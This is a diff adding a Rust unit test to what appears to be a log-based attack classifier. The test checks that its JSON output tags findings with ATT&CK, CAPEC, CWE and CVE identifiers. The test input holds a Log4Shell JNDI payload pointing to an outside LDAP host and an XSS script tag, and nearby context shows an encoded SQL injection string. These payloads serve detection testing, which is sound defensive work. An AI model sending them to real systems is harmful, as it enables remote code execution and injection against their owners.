@@ -190,6 +190,21 @@ fn a_tools_user_agent_is_told_with_low_confidence() {
 }
 
 #[test]
+fn an_explanation_for_machines_tells_each_finding_with_the_names_that_others_give_it() {
+    let line = line(b"/?x=${jndi:ldap://192.0.2.9/a}&q=<script>alert(1)</script>", b"-", b"-");
+    let explanation = CLASSIFIER.explain(Format::Combined.parse(&line).access().unwrap());
+    let json = serde_json::to_value(&explanation).unwrap();
+    let of = |rule: &str| {
+        let matched = json["matched"].as_array().unwrap().iter().find(|matched| matched["rule"] == rule);
+        let matched = matched.unwrap_or_else(|| panic!("{rule} is in {json:#}"));
+        ["technique", "capec", "cwe", "cve"].map(|name| matched[name].to_string())
+    };
+    let names = [r#"["T1190"]"#, "[242]", "[917,502]", r#"["CVE-2021-44228"]"#];
+    assert_eq!(of("log4shell-lookup"), names);
+    assert_eq!(of("xss-markup"), [r#"["T1189","T1059.007"]"#, "[63]", "[79]", "null"]);
+}
+
+#[test]
 fn a_finding_says_where_and_after_how_many_decodings() {
     let line = line(b"/p?a=1&id=1%2527%2520or%25201=1--%2520", b"-", b"-");
     let parsed = Format::Combined.parse(&line);
